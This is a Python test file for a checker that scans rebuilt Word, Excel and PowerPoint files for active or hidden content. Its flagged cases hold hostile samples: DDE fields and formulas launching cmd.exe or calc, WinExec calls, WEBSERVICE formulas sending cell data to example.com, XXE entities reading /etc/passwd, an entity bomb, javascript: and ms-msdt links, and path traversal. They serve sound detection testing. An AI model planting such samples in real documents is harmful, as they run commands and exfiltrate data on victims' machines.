"""The check of rebuilt Office documents: for each way to act, or to hold what is not shown, one that is found, and
plain ones that may pass."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping
from xml.sax.saxutils import escape, quoteattr

import pytest

from chat_server.sanitizing.check.looking import look
from tests.unit.photo_samples import encoded, exif_block, picture

OFFICE = "application/vnd.openxmlformats-officedocument."
KINDS = {
    "docx": ("word/document.xml", OFFICE + "wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", OFFICE + "spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", OFFICE + "presentationml.presentation.main+xml"),
}
SHEET = OFFICE + "spreadsheetml.worksheet+xml"
SLIDE = OFFICE + "presentationml.slide+xml"
FAMILY = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
P = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
R = f'xmlns:r="{FAMILY.removesuffix("/")}"'
V = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel"'
Relation = tuple[str, str] | tuple[str, str, str]


def relations(*told: Relation) -> str:
    """Each: the type in short or whole, the target, the mode if it is told."""
    lines = []
    for number, (short, target, *mode) in enumerate(told, 1):
        whole = short if ":" in short else FAMILY + short
        more = f' TargetMode="{mode[0]}"' if mode else ""
        lines.append(f'<Relationship Id="rId{number}" Type="{whole}" Target={quoteattr(target)}{more}/>')
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{"".join(lines)}</Relationships>'


def package(
    kind: str,
    main: str | bytes,
    *told: Relation,
    more: Mapping[str, tuple[str, str | bytes]] | None = None,
    defaults: Mapping[str, str] | None = None,
) -> bytes:
    """A document. `told`: relations of the main part; `more`: further parts by name, with content types ("" for none of
    their own)."""
    name, content_type = KINDS[kind]
    folder, _, base = name.rpartition("/")
    parts: dict[str, str | bytes] = {name: main, "_rels/.rels": relations(("officeDocument", name))}
    if told:
        parts[f"{folder}/_rels/{base}.rels"] = relations(*told)
    types = [f'<Override PartName="/{name}" ContentType="{content_type}"/>']
    suffixes = {
        "rels": "application/vnd.openxmlformats-package.relationships+xml",
        "xml": "application/xml",
        "png": "image/png",
    }
    types += [
        f'<Default Extension="{suffix}" ContentType="{type_}"/>'
        for suffix, type_ in {**suffixes, **(defaults or {})}.items()
    ]
    for part, (type_, content) in (more or {}).items():
        parts[part] = content
        types += [f'<Override PartName="/{part}" ContentType="{type_}"/>'] if type_ else []
    head = f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{"".join(types)}</Types>'
    return zipped({"[Content_Types].xml": head, **parts})


def zipped(parts: Mapping[str, str | bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return target.getvalue()


def docx(
    body: str, *told: Relation, before: str = "", more: Mapping[str, tuple[str, str | bytes]] | None = None
) -> bytes:
    return package(
        "docx", f"{before}<w:document {W} {R} {A} {V}><w:body>{body}</w:body></w:document>", *told, more=more
    )


def xlsx(sheet: str, workbook: str = "", *, name: str = "") -> bytes:
    defined = f"<definedNames>{name}</definedNames>" if name else ""
    main = f'<workbook {S} {R}><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets>{workbook}{defined}</workbook>'
    return package(
        "xlsx",
        main,
        ("worksheet", "worksheets/sheet1.xml"),
        more={"xl/worksheets/sheet1.xml": (SHEET, f"<worksheet {S} {R}>{sheet}</worksheet>")},
    )


def formula(text: str) -> bytes:
    return xlsx(f'<sheetData><row r="1"><c r="A1"><f>{escape(text)}</f><v>1</v></c></row></sheetData>')


def pptx(slide: str, *told: Relation) -> bytes:
    more = {"ppt/slides/slide1.xml": (SLIDE, f"<p:sld {P} {A} {R}>{slide}</p:sld>")}
    if told:
        more["ppt/slides/_rels/slide1.xml.rels"] = ("", relations(*told))
    return package("pptx", f"<p:presentation {P}/>", ("slide", "slides/slide1.xml"), more=more)


def field(*runs: str) -> bytes:
    """A field whose instruction is cut into these runs; one that begins with < is XML as it is."""
    inner = "".join(
        run if run.startswith("<") else f'<w:r><w:instrText xml:space="preserve">{escape(run)}</w:instrText></w:r>'
        for run in runs
    )
    return docx(f"<w:p>{BEGIN}{inner}{SEPARATE}<w:r><w:t>shown</w:t></w:r>{END}</w:p>")


BEGIN, SEPARATE, END = (f'<w:r><w:fldChar w:fldCharType="{each}"/></w:r>' for each in ("begin", "separate", "end"))
QUOTED = f"{BEGIN}<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>{SEPARATE}<w:r><w:t>DDE</w:t></w:r>{END}"
IMAGE = encoded(picture(), "PNG")


def found(data: bytes, kind: str) -> list[str]:
    return look(io.BytesIO(data), kind)


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (docx("<w:p><w:r><w:t>本文</w:t></w:r></w:p>"), "docx"),
        (docx('<w:p><w:hyperlink r:id="rId1"/></w:p>', ("hyperlink", "https://www.example.jp/?a=1&b=2", "External")), "docx"),
        (docx("<w:p/>", ("hyperlink", "mailto:a@example.jp", "External"), ("hyperlink", "#top")), "docx"),
        (docx('<a:blip r:embed="rId1"/>', ("image", "media/image1.png"), more={"word/media/image1.png": ("", IMAGE)}), "docx"),
        (docx("", ("image", "media/%E5%9B%B3.png"), more={"word/media/図.png": ("", IMAGE)}), "docx"),
        (docx("", ("image", "media/%E5%9B%B3.png"), more={"word/media/%E5%9B%B3.png": ("", IMAGE)}), "docx"),
        (docx('<a:blip r:embed="rId1"/>', ("image", "/word/Media/image1.png"), more={"word/media/image1.png": ("", IMAGE)}), "docx"),
        (field(" PAGE ", r" \* MERGEFORMAT "), "docx"),
        (field(r" EQ \* jc2 \* hps10 \o\ad(\s\up 9(", "かん),漢)"), "docx"),
        (field(' TOC \\o "1-3" \\h \\z \\u '), "docx"),
        (field(' HYPERLINK "https://example.jp/a" \\o "tip: file" \\t "_blank"'), "docx"),
        (field(' HYPERLINK \\l "_Toc1"'), "docx"),
        (field(" = ", QUOTED, " + 1"), "docx"),
        (docx(f"<w:p>{BEGIN}<w:r><w:instrText>PAGE</w:instrText></w:r>{SEPARATE}<w:r><w:t>DDE a b</w:t></w:r>{END}</w:p>"), "docx"),
        (field(" IF ", QUOTED, ' = "a" "b" "c"'), "docx"),
        (field(" "), "docx"),
        (docx('<w:fldSimple w:instr=" DATE \\@ yyyy "/>'), "docx"),
        (formula("SUM(A1:B2)*VLOOKUP(C1,Sheet2!$A$1:$B$9,2,FALSE)"), "xlsx"),
        (formula("SUM(表1[2020])+SUM(表1[[2020]:[2021]])+表1[@[単 価]]"), "xlsx"),
        (formula("'データ (1)'!A1&\"a|b [1]c!x WEBSERVICE(\""), "xlsx"),
        (formula('HYPERLINK("https://example.jp/","開く")&HYPERLINK("#A1")'), "xlsx"),
        (formula("RECALL(A1)+_xlfn.XLOOKUP(A1,B:B,C:C)+PHONETIC(A1)"), "xlsx"),
        (xlsx('<hyperlinks><hyperlink ref="A1" location="AAA1:AAB2"/></hyperlinks>'), "xlsx"),
        (xlsx('<cacheSource type="worksheet"/>'), "xlsx"),
        (docx('<v:shape href="#top"/><v:shape href="https://example.jp/"/><v:shape href="" src=""/>'), "docx"),
        (docx("<w:instrText> </w:instrText>"), "docx"),
        (docx("", before='<?xml version="1.0" standalone="yes"?>'), "docx"),
        (docx("<m:f xmlns:m='http://schemas.openxmlformats.org/officeDocument/2006/math'>[1]a!b</m:f>"), "docx"),
        (xlsx('<sheetData/><c r="A1" name="Auto_Open"/>'), "xlsx"),
        (xlsx("", name='<definedName name="_xlnm.Print_Area" function="0">a!$A$1:$B$2</definedName>'), "xlsx"),
        (pptx('<a:hlinkClick r:id="rId1" action="ppaction://hlinksldjump"/>', ("slide", "slide1.xml")), "pptx"),
        (pptx('<a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/>'), "pptx"),
    ],
)  # fmt: skip
def test_a_plain_document_may_pass(data: bytes, kind: str) -> None:
    assert found(data, kind) == []


@pytest.mark.parametrize(
    ("runs", "finding"),
    [
        ((' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"',), "'DDEAUTO"),
        ((" DD", "EA", "UTO c:\\\\cmd.exe"), "'DDEAUTO"),
        (("dde excel a",), "'dde"),
        ((' INCLUDEPICTURE "http://example.com/a.png" \\d',), "'INCLUDEPICTURE"),
        ((' INCLUDETEXT "\\\\\\\\host\\\\a"',), "'INCLUDETEXT"),
        ((" LINK Excel.Sheet.8 a.xls",), "'LINK"),
        ((" EMBED Package",), "'EMBED"),
        ((" MACROBUTTON Run now",), "'MACROBUTTON"),
        ((" IMPORT a",), "'IMPORT"),
        ((" DATABASE \\c a",), "'DATABASE"),
        ((" RD a.docx",), "'RD"),
        ((" GOTOBUTTON a b",), "'GOTOBUTTON"),
        ((" PRINT 27",), "'PRINT"),
        ((" SET a b",), "'SET"),
        ((" PAGE", " " * 20_000), "a field that does more than show"),
        ((QUOTED, " c:\\\\cmd.exe"), "a field that does more than show"),
        ((QUOTED,), "a field that does more than show"),
        ((QUOTED, " PAGE c:\\\\cmd.exe"), "a field whose name is put together"),
        ((" ", QUOTED, " PAGE"), "a field whose name is put together"),
        (("TA", QUOTED, " "), "a field whose name is put together"),
        (('<w:fldSimple w:instr="QUOTE 68 68 69"/>', " PAGE"), "a field whose name is put together"),
        (("<w:r><w:t>DDEAUTO c:\\\\cmd.exe</w:t></w:r>",), "'DDEAUTO"),
        (("<w:r><w:t>DDE</w:t></w:r>", " PAGE"), "'DDE PAGE"),
        ((' HYPERLINK "file:///c:/a.exe"',), "a link that leads elsewhere than to the web: 'file:"),
        ((' HYPERLINK "\\\\\\\\host\\\\share"',), "a link that leads elsewhere than to the web"),
        ((' HYPERLINK \\l "top" "javascript:alert(1)"',), "a link that leads elsewhere than to the web"),
        ((" HYPERLINK ", "ms-msdt:/id"), "a link that leads elsewhere than to the web"),
        ((" HYPERLINK ", QUOTED), "a link that is put together"),
    ],
)
def test_fields_that_act_are_found(runs: tuple[str, ...], finding: str) -> None:
    assert any(finding in each for each in found(field(*runs), "docx"))


@pytest.mark.parametrize(
    ("body", "finding"),
    [
        ('<w:fldSimple w:instr="DDEAUTO a b"/>', "'DDEAUTO a b'"),
        (f"<w:p>{BEGIN}<w:r><w:instrText>DDE a b</w:instrText></w:r></w:p>", "'DDE a b'"),
        (f"<w:p>{BEGIN}<w:r><w:delInstrText>DDE a b</w:delInstrText></w:r>{END}</w:p>", "'DDE a b'"),
        ("<w:p><w:r><w:instrText>DDE a b</w:instrText></w:r></w:p>", "an instruction outside a field"),
        (f"<w:p>{END}</w:p>", "a field without a beginning"),
        ('<w:altChunk r:id="rId1"/>', "an element that acts ('altChunk')"),
        ("<w:object/>", "an element that acts ('object')"),
        ('<o:OLEObject Type="Link"/>', "an element that acts ('OLEObject')"),
        ("<w:control/>", "an element that acts ('control')"),
        ('<w:subDoc r:id="rId1"/>', "an element that acts ('subDoc')"),
        ('<w:ffData><w:entryMacro w:val="a"/></w:ffData>', "an element that acts ('entryMacro')"),
        ("<w:mailMerge/>", "an element that acts ('mailMerge')"),
        ('<v:imagedata src="http://example.com/a.png"/>', "an attribute that acts ('src'"),
        ('<v:imagedata o:href="http://example.com/a.png"/>', "an attribute that acts ('href'"),
        ('<v:shape href="file:///c:/a"/>', "an attribute that acts ('href'"),
        ('<v:shape onmouseover="a()"/>', "an attribute that acts ('onmouseover'"),
        ('<v:shape o:ole="t"/>', "an attribute that acts ('ole'"),
        ("<x:ClientData><x:FmlaMacro>[0]!a</x:FmlaMacro></x:ClientData>", "an element that acts ('FmlaMacro')"),
        ("<x:ClientData><x:FmlaLink>[1]a!b</x:FmlaLink></x:ClientData>", "a formula that refers to another file"),
        ('<a:videoFile r:link="rId1"/>', "an element that acts ('videoFile')"),
        ('<w:p xml:base="http://example.com/"/>', "an attribute that acts ('base'"),
        ('<w:p xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="a b"/>', "an attribute that acts ('schemaLocation'"),
        ('<?mso-application progid="Word.Document"?>', "an instruction to programs"),
        ("<w:p>", "XML that cannot be read"),
    ],
)  # fmt: skip
def test_elements_that_act_are_found(body: str, finding: str) -> None:
    assert any(finding in each for each in found(docx(body), "docx"))


@pytest.mark.parametrize(
    "before",
    [
        "<!DOCTYPE a>",
        '<!DOCTYPE a SYSTEM "http://example.com/a.dtd">',
        '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;">]>',
    ],
)
def test_declarations_are_found_in_every_part(before: str) -> None:
    assert any("a document type declaration" in each for each in found(docx("", before=before), "docx"))
    types = {"[Content_Types].xml": before + "<Types/>"}
    assert any("a document type declaration" in each for each in found(zipped(types), "docx"))


def test_another_encoding_is_found() -> None:
    """UTF-7 and its like hide from one reader what another sees."""
    text = f'<?xml version="1.0" encoding="UTF-16"?><w:document {W}/>'.encode("utf-16")
    assert any("another encoding than UTF-8" in each for each in found(package("docx", text), "docx"))


@pytest.mark.parametrize(
    ("text", "finding"),
    [
        ("cmd|'/c calc'!A0", "talks to a program (DDE)"),
        ("'cmd|/c calc'!A0", "talks to a program (DDE)"),
        ("[1]Sheet1!A1", "refers to another file"),
        ("SUM(1,[1]Sheet1!A1)", "refers to another file"),
        ("'[1]シート 1'!A1", "refers to another file"),
        ("'C:\\a\\[b.xlsx]c'!A1", "refers to another file"),
        ("[1]!name", "refers to another file"),
        ('_xlfn.WEBSERVICE("http://example.com/"&A1)', "fetches or runs"),
        ('_xlfn.FILTERXML(A1,"//a")', "fetches or runs"),
        ('_xlfn.IMAGE("http://example.com/")', "fetches or runs"),
        ('CALL("kernel32","WinExec","JCJ","calc",0)', "fetches or runs"),
        ('REGISTER.ID("a","b")', "fetches or runs"),
        ('EXEC("calc")', "fetches or runs"),
        ('rtd("a",,"b")', "fetches or runs"),
        ('DDE("soffice","a","b")', "fetches or runs"),
        ('CUBEVALUE("a","b")', "fetches or runs"),
        ("GET.WORKSPACE(1)", "fetches or runs"),
        ('\'x"\'!A1&WEBSERVICE("http://example.com")', "fetches or runs"),
        ('T[a"b]&WEBSERVICE("http://example.com")', "fetches or runs"),
        ('T[a\'#]&"\'"&WEBSERVICE("x")', "fetches or runs"),
        ('HYPERLINK("file:///c:/a.exe")', "link may lead elsewhere"),
        ('HYPERLINK("\\\\host\\share","a")', "link may lead elsewhere"),
        ('HYPERLINK("fi"&"le:///a")', "link may lead elsewhere"),
        ("HYPERLINK(A1)", "link may lead elsewhere"),
        ("'[" * 9000, "a formula longer than Excel takes"),
    ],
)
def test_formulas_that_act_are_found(text: str, finding: str) -> None:
    assert any(finding in each for each in found(formula(text), "xlsx"))


@pytest.mark.parametrize(
    ("data", "finding"),
    [
        (xlsx("", name='<definedName name="_xlnm.Auto_Open">a!$A$1</definedName>'), "a name that runs by itself"),
        (xlsx("", name='<definedName name="auto_close1">a!$A$1</definedName>'), "a name that runs by itself"),
        (xlsx("", name='<definedName name="a" xlm="1">1</definedName>'), "an attribute that acts ('xlm'"),
        (xlsx("", name='<definedName name="a" vbProcedure="true">1</definedName>'), "an attribute that acts ('vbProcedure'"),
        (xlsx("", name='<definedName name="a">EVALUATE(b)</definedName>'), "fetches or runs"),
        (xlsx("", name='<definedName name="a">[1]b!$A$1</definedName>'), "refers to another file"),
        (xlsx('<dataValidation><formula1>[1]b!$A$1</formula1></dataValidation>'), "refers to another file"),
        (xlsx('<cfRule><formula>WEBSERVICE("a")</formula></cfRule>'), "fetches or runs"),
        (xlsx('<a:f xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/chart">[1]b!$A$1</a:f>'), "refers to another file"),
        (xlsx('<a:formula1 xmlns:a="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"><b:f xmlns:b='
              '"http://schemas.microsoft.com/office/excel/2006/main">[1]b!$A$1</b:f></a:formula1>'), "refers to another file"),
        (xlsx('<b:f xmlns:b="http://schemas.microsoft.com/office/excel/2006/main">[1]b!$A$1</b:f>'), "refers to another file"),
        (xlsx("<oleObjects/>"), "an element that acts ('oleObjects')"),
        (xlsx("<controls/>"), "an element that acts ('controls')"),
        (xlsx("<webPublishItems/>"), "an element that acts ('webPublishItems')"),
        (xlsx('<xdr:sp xmlns:xdr="a" macro="[0]!Run"/>'), "an attribute that acts ('macro'"),
        (xlsx('<xdr:sp xmlns:xdr="a" textlink="[1]a!$A$1"/>'), "an attribute that acts ('textlink'"),
        (xlsx('<hyperlinks><hyperlink ref="A1" location="file:///c:/a"/></hyperlinks>'), "an attribute that acts ('location'"),
        (xlsx('<hyperlinks><hyperlink ref="A1" location="\\\\host\\a"/></hyperlinks>'), "an attribute that acts ('location'"),
        (xlsx("", "<externalReferences/>"), "an element that acts ('externalReferences')"),
        (xlsx('<cacheSource type="external" connectionId="1"/>'), "a pivot table of data from elsewhere"),
        (xlsx('<ddeLink ddeService="cmd" ddeTopic="a"/>'), "an element that acts ('ddeLink')"),
    ],
)  # fmt: skip
def test_workbooks_that_act_are_found(data: bytes, finding: str) -> None:
    assert any(finding in each for each in found(data, "xlsx"))


@pytest.mark.parametrize(
    ("data", "finding"),
    [
        (pptx('<a:hlinkClick r:id="" action="ppaction://program"/>'), "'ppaction://program'"),
        (pptx('<a:hlinkClick r:id="" action="ppaction://macro?name=a"/>'), "'ppaction://macro"),
        (pptx('<a:hlinkMouseOver r:id="" action="ppaction://hlinkfile"/>'), "'ppaction://hlinkfile'"),
        (pptx('<a:hlinkClick r:id="" action="ppaction://ole?verb=0"/>'), "'ppaction://ole"),
        (pptx('<a:hlinkClick r:id="" invalidUrl="file://a"/>'), "an attribute that acts ('invalidUrl'"),
        (pptx('<p:cmd type="verb" cmd="0"/>'), "an element that acts ('cmd')"),
        (pptx("<p:oleObj/>"), "an element that acts ('oleObj')"),
        (pptx("<p:transition><p:sndAc/></p:transition>"), "an element that acts ('sndAc')"),
        (
            pptx("", ("hyperlink", "file:///c:/a.exe", "External")),
            "a link that leads elsewhere than to the web: 'file:",
        ),
        (pptx("", ("video", "http://example.com/a.mp4", "External")), "something that is fetched from elsewhere"),
    ],
)
def test_presentations_that_act_are_found(data: bytes, finding: str) -> None:
    assert any(finding in each for each in found(data, "pptx"))


def part(name: str, content_type: str, content: str | bytes, short: str) -> bytes:
    """A document with one part more, and a reference to it."""
    return docx("", (short, f"/{name}"), more={name: (content_type, content)})


@pytest.mark.parametrize(
    ("data", "finding"),
    [
        (part("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", b"a", FAMILY + "vbaProject"), "'word/vbaProject.bin'"),
        (part("word/vbaProject.bin", "image/png", b"a", "image"), "not png, in 'word/vbaProject.bin'"),
        (part("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "<a/>", "control"), "a reference that may not stand"),
        (part("word/embeddings/a.bin", OFFICE + "oleObject", b"a", "oleObject"), "a content type that may not stand"),
        (part("word/embeddings/a.xlsx", OFFICE + "spreadsheetml.sheet", b"PK", "package"), "a part of a kind that may not stand"),
        (part("customXml/item1.xml", "application/xml", "<a/>", "customXml"), "a part of a kind that may not stand: 'customXml/item1.xml'"),
        (part("xl/printerSettings/a.bin", OFFICE + "spreadsheetml.printerSettings", b"a", "printerSettings"), "a content type"),
        (part("customUI/a.xml", "application/xml", "<a/>", "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility"),
         "a reference that may not stand"),
        (part("word/media/a.emf", "image/x-emf", b"\1\0\0\0", "image"), "a content type that may not stand: 'x-emf'"),
        (part("word/media/a.svg", "image/svg+xml", "<svg/>", "image"), "a content type that may not stand: 'svg+xml'"),
        (part("word/media/a.png", "image/png", encoded(picture(), "JPEG"), "image"), "not png"),
        (part("word/media/a.png", "image/png", IMAGE + b"PK", "image"), "bytes behind the end"),
        (part("word/media/a.jpg", "image/jpeg", encoded(picture(), exif=exif_block(maker="a")), "image"), "EXIF"),
        (part("word/a.xml", OFFICE + "wordprocessingml.styles+xml", f"<w:document {W}/>", "styles"), "not what its content type says"),
        (part("word/a.htm", "text/html", "<p>", "aFChunk"), "a content type that may not stand: 'html'"),
        (part("word/b.xml", KINDS["docx"][1].replace("document.main", "document.macroEnabled.main"), "<a/>", "styles"), "a content type"),
        (docx("", ("image", "http://example.com/a.png", "External")), "something that is fetched from elsewhere"),
        (docx("", ("attachedTemplate", "http://example.com/a.dotm", "External")), "something that is fetched from elsewhere"),
        (docx("", ("hyperlink", "javascript:alert(1)", "External")), "a link that leads elsewhere than to the web"),
        (docx("", ("hyperlink", "\\\\host\\share", "External")), "a link that leads elsewhere than to the web"),
        (docx("", ("hyperlink", "https://example.jp/\\..\\a", "External")), "a link that leads elsewhere than to the web"),
        (docx("", ("image", "media/none.png")), "a reference that leads nowhere"),
        (docx("", ("image", "../../../etc/passwd")), "a reference that leads nowhere"),
        (docx("", ("hyperlink", "https://example.jp/", "Other")), "something that is fetched from elsewhere"),
        (docx("", more={"word/_rels/a.rels": (OFFICE + "wordprocessingml.styles+xml", f"<w:styles {W}/>")}), "not what its content type"),
        (docx("", ("image", "a.png", "Other")), "something that is fetched from elsewhere"),
        (docx("", more={"word/media/a.png": ("", IMAGE)}), "a part that nothing refers to: 'word/media/a.png'"),
        (docx("", more={"word/_rels/other.xml.rels": ("", relations(("styles", "a")))}), "a part that nothing refers to"),
        (docx("", more={"word/notes": ("", b"a")}), "a part of a kind that may not stand: 'word/notes'"),
        (docx("", more={"../a.xml": ("", b"<a/>")}), "an unsafe name"),
        (docx("", more={"WORD/DOCUMENT.XML": ("", b"<a/>")}), "a name that stands twice"),
        (xlsx(""), "not docx"),
        (package("docx", f"<w:document {W}/>", defaults={"XML": "image/png"}), "a content type that is told twice"),
        (zipped({"a.txt": b"a"}), "not a package"),
        (docx("") + b"more", "bytes behind the end of the archive"),
        (docx("")[:-30], "no end of the archive"),
        (zipped({"[Content_Types].xml": "<Types><Other/></Types>"}), "an unknown declaration of content"),
    ],
)  # fmt: skip
def test_packages_of_more_than_a_document_are_found(data: bytes, finding: str) -> None:
    assert any(finding in each for each in found(data, "docx")), found(data, "docx")
